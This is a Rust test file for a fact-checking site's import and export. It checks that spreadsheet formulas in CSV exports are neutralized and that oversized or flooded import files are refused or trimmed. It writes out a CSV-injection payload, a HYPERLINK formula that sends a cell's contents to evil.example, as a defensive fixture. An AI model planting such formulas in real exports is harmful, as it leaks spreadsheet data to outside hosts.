//! Import and export against an attacker: spreadsheet formulas planted in fact-checks do
//! not run when the CSV export is opened, and import files built to hang, bloat or smuggle
//! over-long text into the site are refused record by record while the rest imports.

use crate::exchange::Newsroom;
use crate::helpers::{TestApp, moon_fact_check, with};
use factdesk::db::exchange;
use factdesk::db::exchange::ExportedFactCheck;
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::io::Write;

/// A ClaimReview another publisher might send, `n` telling records apart.
fn review(n: usize) -> Value {
    json!({
        "@type": "ClaimReview",
        "url": format!("https://checks.example/reviews/{n}"),
        "headline": format!("Claim {n} is false"),
        "author": {"@type": "Organization", "name": "Checks"},
        "claimReviewed": format!("Claim number {n} was made."),
        "itemReviewed": {"@type": "Claim", "author": {"@type": "Person", "name": "Someone"}},
        "reviewRating": {"@type": "Rating", "alternateName": "False"}
    })
}

fn imported(newsroom: &Newsroom) -> Vec<ExportedFactCheck> {
    newsroom
        .db()
        .read(|conn| exchange::published(conn, true))
        .unwrap()
}

fn find(all: &[ExportedFactCheck], n: usize) -> &ExportedFactCheck {
    let url = format!("https://checks.example/reviews/{n}");
    all.iter()
        .find(|fc| fc.imported_from.as_deref() == Some(url.as_str()))
        .unwrap_or_else(|| panic!("record {n} was not imported"))
}

/// A formula that sends the spreadsheet's first cell to another site when clicked.
fn formula(lead: char) -> String {
    format!("{lead}HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")")
}

/// A fact-check whose headline, claimant and source title start with `lead`, exported as
/// CSV: every one of those cells must reach the spreadsheet as text.
fn csv_export_neutralizes(lead: char) {
    let newsroom = Newsroom::fresh();
    let hostile = formula(lead);
    let mut record = review(1);
    record["headline"] = json!(hostile);
    record["itemReviewed"]["author"]["name"] = json!(hostile);
    record["citation"] = json!([{"name": hostile, "url": "https://evil.example/page"}]);
    let file = newsroom.file("hostile.json");
    std::fs::write(&file, record.to_string()).unwrap();
    let run = newsroom.import(&file);
    assert!(run.success, "{}", run.stderr);
    if lead.is_whitespace() {
        // Every form and import trims, so a leading tab or carriage return can only be in
        // rows written some other way (an older version, a script on the file): the
        // export must not trust that either.
        let conn = rusqlite::Connection::open(&newsroom.db).unwrap();
        conn.execute("UPDATE fact_checks SET headline = ?1", [&hostile])
            .unwrap();
        conn.execute("UPDATE claimants SET name = ?1", [&hostile])
            .unwrap();
        conn.execute("UPDATE sources SET title = ?1", [&hostile])
            .unwrap();
    }

    let mut reader = csv::Reader::from_path(newsroom.export("csv")).unwrap();
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    let cell = |name: &str| rows[0][headers.iter().position(|h| h == name).unwrap()].to_owned();
    let neutralized = format!("'{hostile}");
    for column in ["headline", "claimant"] {
        assert_eq!(cell(column), neutralized, "{column} starting with {lead:?}");
    }
    // A list is a JSON array, which starts with `[`: its items stay exactly as written.
    let titles: Vec<String> = serde_json::from_str(&cell("source_titles")).unwrap();
    assert!(titles.iter().all(|t| *t == hostile), "{titles:?}");
    for (header, value) in headers.iter().zip(rows[0].iter()) {
        assert!(
            !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{header} would be run by a spreadsheet: {value:?}"
        );
    }
}

#[test]
fn csv_cells_starting_with_equals_are_neutralized() {
    csv_export_neutralizes('=');
}

#[test]
fn csv_cells_starting_with_plus_are_neutralized() {
    csv_export_neutralizes('+');
}

#[test]
fn csv_cells_starting_with_minus_are_neutralized() {
    csv_export_neutralizes('-');
}

#[test]
fn csv_cells_starting_with_at_are_neutralized() {
    csv_export_neutralizes('@');
}

#[test]
fn csv_cells_starting_with_tab_are_neutralized() {
    csv_export_neutralizes('\t');
}

#[test]
fn csv_cells_starting_with_carriage_return_are_neutralized() {
    csv_export_neutralizes('\r');
}

#[test]
fn an_over_long_correction_refuses_its_record_and_the_others_import() {
    let newsroom = Newsroom::fresh();
    let file = newsroom.file("feed.json");
    std::fs::write(&file, json!([review(1), review(2)]).to_string()).unwrap();
    assert!(newsroom.import(&file).success);
    let before = newsroom.counts();

    // Record 2 comes back with a new headline and a correction no editor could publish.
    let mut changed = review(2);
    changed["headline"] = json!("A headline that must not be saved");
    changed["correction"] = json!([{"@type": "CorrectionComment", "name": "Correction",
        "text": "x".repeat(5_000), "datePublished": "2025-01-01"}]);
    // Record 3 carries a 2 MB correction, longer than any field of the form.
    let mut huge = review(3);
    huge["correction"] = json!({"text": "y".repeat(2_000_000)});
    // Record 4 lists more corrections than a record may carry.
    let mut many = review(4);
    many["correction"] = (0..60)
        .map(|i| json!({"text": format!("Fix {i}."), "datePublished": "2025-01-02"}))
        .collect();
    let mut fine = review(5);
    fine["correction"] = json!({"name": "Update", "text": "A source was added.",
        "datePublished": "2025-01-03"});
    std::fs::write(
        &file,
        json!([review(1), changed, huge, many, fine]).to_string(),
    )
    .unwrap();
    let run = newsroom.import(&file);

    assert!(!run.success);
    let lines: Vec<&str> = run.stderr.lines().collect();
    assert_eq!(
        lines[..3],
        [
            "record 2: correction 1: The public note must be at most 1000 characters (it has 5000).",
            "record 3: correction holds a text longer than 256 KiB, more than any field can hold",
            "record 4: more than 50 corrections (60)",
        ],
        "{}",
        run.stderr
    );
    assert!(
        run.stdout
            .contains("2 imported (1 new, 0 updated, 1 unchanged), 3 failed"),
        "{}",
        run.stdout
    );
    let all = imported(&newsroom);
    assert_eq!(all.len(), 3);
    let second = find(&all, 2);
    assert_eq!(second.page.headline, "Claim 2 is false");
    assert!(second.page.corrections.is_empty());
    assert_eq!(find(&all, 5).page.corrections.len(), 1);
    let after = newsroom.counts();
    for ((table, was), (_, now)) in before.iter().zip(&after) {
        let added_by_record_5 = match *table {
            "fact_checks" | "claims" | "appearances" | "sources" | "corrections" | "revisions"
            | "audit_log" => 1,
            _ => 0,
        };
        assert_eq!(*now, was + added_by_record_5, "{table}");
    }
}

#[test]
fn a_record_with_millions_of_list_items_is_cut_to_what_a_fact_check_holds() {
    let newsroom = Newsroom::fresh();
    let file = newsroom.file("flood.json");
    let mut out = std::io::BufWriter::new(std::fs::File::create(&file).unwrap());
    // Written by hand: building 2,200,000 JSON values first would test the test.
    let mut keywords = review(1);
    keywords["keywords"] = json!("KEYWORDS");
    let (head, tail) = keywords
        .to_string()
        .split_once("\"KEYWORDS\"")
        .map(|(h, t)| (h.to_owned(), t.to_owned()))
        .unwrap();
    write!(out, "[{head}[").unwrap();
    for i in 0..2_000_000 {
        let comma = if i == 0 { "" } else { "," };
        write!(out, "{comma}\"k{}\"", i % 50).unwrap();
    }
    write!(out, "]{tail},").unwrap();
    let mut appearances = review(2);
    appearances["itemReviewed"]["appearance"] = json!("APPEARANCES");
    let text = appearances.to_string();
    let (head, tail) = text.split_once("\"APPEARANCES\"").unwrap();
    write!(out, "{head}[").unwrap();
    for i in 0..200_000 {
        let comma = if i == 0 { "" } else { "," };
        write!(
            out,
            "{comma}{{\"url\":\"https://social.example/p/{}\"}}",
            i % 30
        )
        .unwrap();
    }
    write!(out, "]{tail},{}]", review(3)).unwrap();
    out.flush().unwrap();
    drop(out);

    let run = newsroom.import(&file);
    assert!(run.success, "{}", run.stderr);
    assert!(run.stdout.contains("3 imported (3 new"), "{}", run.stdout);
    let all = imported(&newsroom);
    let tags = &find(&all, 1).page.tags;
    assert_eq!(tags.len(), 10, "the first ten different keywords: {tags:?}");
    let appearances: Vec<&str> = find(&all, 2)
        .page
        .claim
        .appearances
        .iter()
        .map(|a| a.url.as_str())
        .collect();
    let first_twenty: Vec<String> = (0..20)
        .map(|i| format!("https://social.example/p/{i}"))
        .collect();
    assert_eq!(appearances, first_twenty);
    assert_eq!(find(&all, 3).page.tags.len(), 0);
}

#[test]
fn a_file_that_breaks_off_keeps_the_records_before_the_break_and_says_where() {
    let newsroom = Newsroom::fresh();
    let file = newsroom.file("cut.json");
    let whole = json!([review(1), review(2)]).to_string();
    std::fs::write(&file, &whole[..whole.len() - 40]).unwrap();
    let run = newsroom.import(&file);
    assert!(!run.success);
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    assert!(
        run.stderr.contains("not JSON: EOF while parsing"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("the 1 records before that point were read: 1 imported (1 new"),
        "{}",
        run.stderr
    );
    assert_eq!(imported(&newsroom).len(), 1);
}

#[tokio::test]
async fn an_editors_public_note_over_the_limit_is_refused_beside_the_field_with_input_kept() {
    let mut app = TestApp::spawn().await;
    app.sign_in_as_editor().await;
    let edit_path = app.create_draft(&moon_fact_check()).await;
    assert_eq!(app.publish(&edit_path).await.status, StatusCode::SEE_OTHER);
    let before = app.content_counts();

    let note = format!("{} END", "The lab retested the samples. ".repeat(40));
    let form = with(
        &with(&moon_fact_check(), "change_kind", "correction"),
        "change_note",
        &note,
    );
    let page = app.save(&edit_path, 1, &form).await;

    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
    let chars = note.trim().chars().count();
    assert!(
        page.body.contains(&format!(
            r#"<p class="field-error" id="change_note-error">The public note must be at most 1000 characters (it has {chars}).</p>"#
        )),
        "{}",
        page.body
    );
    assert!(
        page.body
            .contains(&format!(">{}</textarea>", note.trim_end()))
    );
    assert!(page.body.contains(r#"maxlength="1000""#));
    assert_eq!(app.content_counts(), before);
}
